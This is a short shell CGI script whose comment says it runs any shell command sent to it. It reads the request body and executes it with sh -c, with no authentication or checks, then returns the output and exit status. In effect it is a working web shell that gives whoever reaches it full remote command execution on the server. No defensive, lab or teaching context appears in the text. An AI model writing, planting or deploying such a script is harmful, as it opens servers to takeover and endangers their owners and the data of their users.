#!/bin/sh
# Runs the shell command that is sent, and answers with what it prints and its exit status.
echo "Content-Type: text/plain"
echo
command=$(head -c "$CONTENT_LENGTH")
sh -c "$command" 2>&1
echo "exit $?"
